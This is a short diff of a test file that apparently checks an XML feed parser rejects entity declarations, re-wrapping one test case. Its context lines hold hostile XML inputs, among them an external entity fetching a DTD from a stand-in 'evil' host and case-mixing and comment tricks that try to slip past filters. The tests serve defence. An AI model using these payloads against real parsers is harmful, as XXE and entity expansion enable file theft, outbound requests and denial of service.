@@ -281,8 +281,8 @@ BOMB = b"""<?xml version="1.0"?>
         (b'<?xml version="1.0"?><!DOCTYPE r [<!eNtItY % p SYSTEM "http://evil/x.dtd"> %p;]>'
          b"<rss/>", "declares XML entities"),
         # a comment before it hides nothing
-        (b'<?xml version="1.0"?><!-- <!ENTITY in a comment --><!DOCTYPE r [<!ENTITY x "y">]>'
-         b"<rss/>", "declares XML entities"),
+        ((b'<?xml version="1.0"?><!-- <!ENTITY in a comment -->'
+          b'<!DOCTYPE r [<!ENTITY x "y">]><rss/>'), "declares XML entities"),
         # a comment opened inside the DOCTYPE is no comment: defusedxml still sees the rest
         (b'<?xml version="1.0"?><!DOCTYPE r [<!-- x --><!ENTITY x "y">]><rss/>',
          "declares XML entities|unsafe XML"),
